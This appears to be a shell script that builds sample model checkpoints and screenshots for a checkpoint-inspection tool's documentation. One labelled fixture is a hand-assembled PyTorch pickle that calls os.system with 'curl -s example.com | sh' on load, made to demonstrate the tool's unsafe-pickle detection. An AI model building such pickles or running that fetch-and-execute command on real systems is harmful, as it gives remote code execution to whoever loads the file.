#!/bin/sh
# Makes what the program itself contributes to this folder: the pictures, and the reference of the
# commands. Run it after "mvn package" and look at what it changed. TENSORLOUPE names another
# program than the one that was built.
set -eu

program=${TENSORLOUPE:-$(dirname "$0")/../target/tensorloupe/bin/tensorloupe}
program=$(cd "$(dirname "$program")" && pwd)/$(basename "$program")
cd "$(dirname "$0")"

# The window shows where a file is: the name of the folder is the same each time.
samples=${TMPDIR:-/tmp}/checkpoints
mkdir "$samples"
trap 'rm -r "$samples"' EXIT
"$program" demo "$samples"

# The language model once more, its last layers as if they had been trained a little.
cp -R "$samples/healthy-sharded" "$samples/fine-tuned"
tuned=$samples/fine-tuned/model-00003-of-00003.safetensors
"$program" info --json "$tuned" | perl -e '
  use strict;
  my ($file) = @ARGV;
  my $info = <STDIN>;
  my ($start) = $info =~ /"headerLength":(\d+)/;
  srand(1);
  open(my $out, "+<:raw", $file) or die $!;
  while ($info =~ /"model\.layers\.(9|10|11)\.[^"]*_proj[^}]*"begin":(\d+),"end":(\d+)/g) {
    my ($most, $begin, $count) = (4 ** ($1 - 8), $2, $3 - $2);
    seek($out, 8 + $start + $begin, 0);
    read($out, my $bytes, $count);
    my @codes = map { my $code = $_ + int(rand(2 * $most + 1)) - $most;
                      ($code ^ $_) & 0x8000 ? $_ : $code } unpack("v*", $bytes);
    seek($out, 8 + $start + $begin, 0);
    print $out pack("v*", @codes);
  }' "$tuned"
"$program" metadata set --entry training.steps=1200 --entry training.dataset=harbours "$tuned"

# A small model in FP8 with a scale for each block; one scale is lost.
mkdir "$samples/fp8"
cat > "$samples/fp8/config.json" <<'JSON'
{"quantization_config": {"quant_method": "fp8", "fmt": "e4m3", "weight_block_size": [32, 32]}}
JSON
perl -e '
  use strict;
  srand(1);
  my ($header, $data) = ("", "");
  my $add = sub {
    my ($name, $dtype, $shape, $bytes) = @_;
    my $begin = length($data);
    $data .= $bytes;
    my $end = length($data);
    $header .= ($header ? "," : "") .
      qq("$name":{"dtype":"$dtype","shape":[$shape],"data_offsets":[$begin,$end]});
  };
  for my $layer (0 .. 7) {
    for my $role ("self_attn.q_proj", "mlp.down_proj") {
      my $name = "model.layers.$layer.$role.weight";
      my $codes = join "", map { my $sum = 0; $sum += rand() for 1 .. 6;
        pack("C", (rand() < 0.5 ? 0 : 128) + int(16 + 12 * $sum)) } 1 .. 96 * 128;
      $add->($name, "F8_E4M3", "96,128", $codes);
      next if $layer == 5 && $role eq "mlp.down_proj";
      $add->("${name}_scale_inv", "F32", "3,4",
        join "", map { pack("f<", 0.0005 + 0.0004 * rand()) } 1 .. 12);
    }
  }
  $header = "{$header}";
  $header .= " " x (-length($header) % 8);
  print pack("Q<", length($header)), $header, $data;' > "$samples/fp8/model.safetensors"

# A checkpoint of PyTorch that runs a program when it is loaded, in the format before version 1.6.
perl -e '
  use strict;
  my $text = sub { "X" . pack("V", length($_[0])) . $_[0] };
  my $tensor = sub {
    my ($key, $rows, $columns) = @_;
    my $numbers = sub { "(" . join("", map { "J" . pack("V", $_) } @_) . "t" };
    "ctorch._utils\n_rebuild_tensor_v2\n((" . $text->("storage") . "ctorch\nFloatStorage\n" .
      $text->($key) . $text->("cpu") . "J" . pack("V", $rows * $columns) . "NtQK\0" .
      $numbers->($rows, $columns) . $numbers->($columns, 1) . "\x89}tR";
  };
  srand(1);
  my ($entries, $keys, $data) = ("", "", "");
  for my $key (0 .. 5) {
    $entries .= $text->("layers.$key.weight") . $tensor->($key, 32, 16);
    $keys .= $text->($key);
    $data .= pack("Q<", 512) . join("", map { pack("f<", rand() - 0.5) } 1 .. 512);
  }
  print "\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}.",
    "\x80\x02cos\nsystem\n(", $text->("curl -s example.com | sh"), "tR0",
    "}(", $text->("epoch"), "K\x0c", $text->("state_dict"), "}(", $entries, "uu.",
    "\x80\x02](", $keys, "e.", $data;' > "$samples/dangerous.pt"

# picture NAME FILE [OPTION...]
picture() {
  name=$1
  file=$2
  shift 2
  "$program" screenshot --out "pictures/$name.png" --size 980x640 "$@" "$samples/$file"
}

layer=model.layers.3.mlp.down_proj.weight
picture window-light healthy-sharded --tensor $layer --pane histogram
picture window-dark healthy-sharded --tensor $layer --pane histogram --theme dark
picture start . --pane library
picture overview rich-metadata.safetensors --pane overview
picture problems nan-and-inf.safetensors --pane problems
picture heatmap nan-and-inf.safetensors --tensor encoder.0.weight --pane heatmap
picture metadata rich-metadata.safetensors --pane metadata
picture hashes rich-metadata.safetensors --pane hashes
picture truncated truncated.safetensors --pane problems
picture adapter rich-metadata.safetensors --pane adapter
picture layers healthy-sharded --pane layers
picture convert healthy-sharded --pane convert
picture resize rich-metadata.safetensors --pane resize
picture settings healthy-sharded --pane settings
picture palette healthy-sharded --tensor $layer --pane palette
compared="healthy-sharded --compare $samples/fine-tuned"
picture compare $compared
picture compare-layers $compared --pane layers --tensor model.layers.10.mlp.up_proj.weight
picture compare-metadata $compared --pane metadata --theme dark
weight=model.layers.3.mlp.down_proj.weight
picture quantized fp8/model.safetensors --pane overview
picture quantized-values fp8/model.safetensors --tensor $weight --pane histogram
picture quantized-problems fp8/model.safetensors --pane problems --theme dark
picture pickle dangerous.pt --pane pickle
picture german nan-and-inf.safetensors --pane problems --language de

# reference LEVEL COMMAND [COMMAND]: its help, and that of the commands below it
reference() {
  level=$1
  shift
  printf '\n%s %s\n\n```text\n' "$level" "${*:-tensorloupe}"
  "$program" help "$@"
  printf '```\n'
}

{
  printf '# The commands\n\n'
  printf 'The output of `tensorloupe help` and `tensorloupe help COMMAND`.\n'
  reference '##'
  for command in info stats lora library screenshot check watch survey verify hash quantization metadata salvage repair index \
    recover compare manifest duplicates export convert demo completion help; do
    reference '##' $command
    "$program" help $command | sed -n '/^Commands:$/,/^$/s/^  \([a-z]*\) .*/\1/p' |
      while read -r below; do
        reference '###' $command "$below" < /dev/null
      done
  done
} > command-line.md
